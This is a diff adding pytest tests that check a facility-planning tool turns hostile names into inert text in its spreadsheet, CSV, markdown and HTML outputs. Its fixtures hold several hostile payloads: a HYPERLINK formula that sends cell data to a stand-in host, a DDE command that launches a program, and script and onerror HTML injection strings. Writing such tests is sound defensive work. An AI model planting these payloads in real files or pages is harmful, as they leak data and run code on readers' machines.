@@ -1,0 +1,180 @@
+"""Outputs that cannot hurt the planner (issue 12): hostile names stay text in every file."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from circle.cli import main
+from circle.report.tables import neutralised
+
+TINY_OSM = Path(__file__).parent / "data" / "tiny.osm"
+#: Names a hostile or careless facilities file could hold.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+SCRIPT = "<script>alert(1)</script>|`x`"
+HOSTILE_CSV = (
+    "id,name,category,lon,lat,capacity\n"
+    f'=1+1,"{FORMULA.replace(chr(34), chr(34) * 2)}",clinic,24.9401,60.1701,10\n'
+    f"c2,{SCRIPT},=evilcat,24.9402,60.1702,5\n"
+    "c3,@SUM(1),-neg,24.9403,60.1703,\n"
+    "c4,\tTabbed,+plus,24.9404,60.1704,\n"
+)
+#: Starts of text that a spreadsheet runs as a formula.
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> tuple[Path, Path, Path]:
+    facilities = tmp_path / "fac.csv"
+    facilities.write_text(HOSTILE_CSV, encoding="utf-8")
+    people = tmp_path / "people.csv"
+    people.write_text("lon,lat,population\n24.941,60.1705,100\n24.9415,60.1702,50\n")
+    scenarios = tmp_path / "s.toml"
+    scenarios.write_text('[[scenario]]\nname = "=cmd|\' /C calc\'!A0"\nprofile = "elderly"\n')
+    return facilities, people, scenarios
+
+
+def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
+    code = main(argv)
+    return code, capsys.readouterr().err
+
+
+def _inputs(facilities: Path, people: Path) -> list[str]:
+    return [
+        "--network",
+        str(TINY_OSM),
+        "--facilities",
+        str(facilities),
+        "--population",
+        str(people),
+    ]
+
+
+def test_neutralised_prefixes_only_formula_starts() -> None:
+    assert [neutralised(s) for s in ("=1", "+1", "-x", "@x", "\tx", "\rx")] == [
+        "'=1",
+        "'+1",
+        "'-x",
+        "'@x",
+        "'\tx",
+        "'\rx",
+    ]
+    assert neutralised("clinic") == "clinic"
+    assert neutralised("a=b") == "a=b"
+
+
+def _assert_no_formulas(path: Path) -> int:
+    """Every cell of the workbook is inert; returns how many hostile texts were seen."""
+    book = openpyxl.load_workbook(path)
+    seen = 0
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
+                    assert cell.data_type == "s"
+                    seen += 1
+    return seen
+
+
+def _assert_csv_neutralised(path: Path) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+    for row in rows:
+        for value in row:
+            assert not value.startswith(DANGEROUS), (path.name, value)
+    return rows
+
+
+def test_hostile_names_are_text_in_every_report_file(hostile, tmp_path, capsys) -> None:
+    facilities, people, scenarios = hostile
+    out = tmp_path / "report"
+    code, err = _run(
+        ["report", *_inputs(facilities, people), "--out", str(out), "--minutes", "15"], capsys
+    )
+    assert code == 0, err
+    # xlsx: the names are there, as strings, never formulas.
+    assert _assert_no_formulas(out / "gaps.xlsx") >= 4
+    book = openpyxl.load_workbook(out / "gaps.xlsx")
+    texts = {c.value for s in book for r in s.iter_rows() for c in r}
+    assert FORMULA in texts
+    assert "=1+1" in texts
+    # CSV: text neutralised the OWASP way, numbers stay numbers (negative ones too).
+    for name in ("summary.csv", "neighbourhoods.csv", "facilities.csv"):
+        _assert_csv_neutralised(out / name)
+    rows = _assert_csv_neutralised(out / "facilities.csv")
+    header, body = rows[0], rows[1:]
+    by_id = {r[header.index("id")]: r for r in body}
+    assert by_id["'=1+1"][header.index("name")] == "'" + FORMULA
+    assert by_id["c3"][header.index("category")] == "'-neg"
+    for r in body:
+        float(r[header.index("lon")])
+        float(r[header.index("snap_m")])
+    # report.md: no raw HTML, no broken table, no code span from input.
+    md = (out / "report.md").read_text(encoding="utf-8")
+    assert "<script" not in md
+    assert "&lt;script&gt;" in md or "script" not in md
+    # map.html: the names never appear as markup.
+    page = (out / "map.html").read_text(encoding="utf-8")
+    assert "<script>alert(1)" not in page
+    # scenarios: the hostile scenario name is text in the xlsx and neutralised in the CSV.
+    sc_out = tmp_path / "scenarios"
+    code, err = _run(
+        ["scenario", str(scenarios), *_inputs(facilities, people), "--out", str(sc_out)], capsys
+    )
+    assert code == 0, err
+    assert _assert_no_formulas(sc_out / "scenarios.xlsx") >= 1
+    rows = _assert_csv_neutralised(sc_out / "scenarios.csv")
+    assert any(r[0] == "'=cmd|' /C calc'!A0" for r in rows)
+
+
+def test_report_md_escapes_every_input_value(hostile, tmp_path, capsys) -> None:
+    facilities, people, _ = hostile
+    # An off-network facility with a hostile name reaches the off-network table.
+    far = tmp_path / "far.csv"
+    far.write_text(
+        facilities.read_text(encoding="utf-8")
+        + "off1,<img src=x onerror=alert(1)>,<b>cat</b>,24.9600,60.1650,\n",
+        encoding="utf-8",
+    )
+    out = tmp_path / "report"
+    code, err = _run(["report", *_inputs(far, people), "--out", str(out)], capsys)
+    assert code == 0, err
+    md = (out / "report.md").read_text(encoding="utf-8")
+    assert "<img" not in md
+    assert "<b>" not in md
+    assert "&lt;img src=x onerror=alert(1)&gt;" in md
+    assert "&lt;b&gt;cat&lt;/b&gt;" in md
+    # Table rows keep their column count: the `|` and backtick of a name are escaped.
+    for line in md.splitlines():
+        if line.startswith("|") and "script" in line:
+            assert "\\|" in line
+            assert "\\`x\\`" in line
+
+
+def test_tiles_attribution_is_plain_text_in_the_map(hostile, tmp_path, capsys) -> None:
+    facilities, people, _ = hostile
+    out = tmp_path / "map.html"
+    code, err = _run(
+        [
+            "map",
+            *_inputs(facilities, people),
+            "--out",
+            str(out),
+            "--tiles",
+            "https://tiles.example/{z}/{x}/{y}.png",
+            "--tiles-attribution",
+            "<img src=x onerror=alert(1)> © Survey & Co",
+        ],
+        capsys,
+    )
+    assert code == 0, err
+    page = out.read_text(encoding="utf-8")
+    assert "<img src=x" not in page
+    attribution = re.search(r'"attribution": "([^"]*)"', page)
+    assert attribution is not None
+    assert "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;" in attribution.group(1)
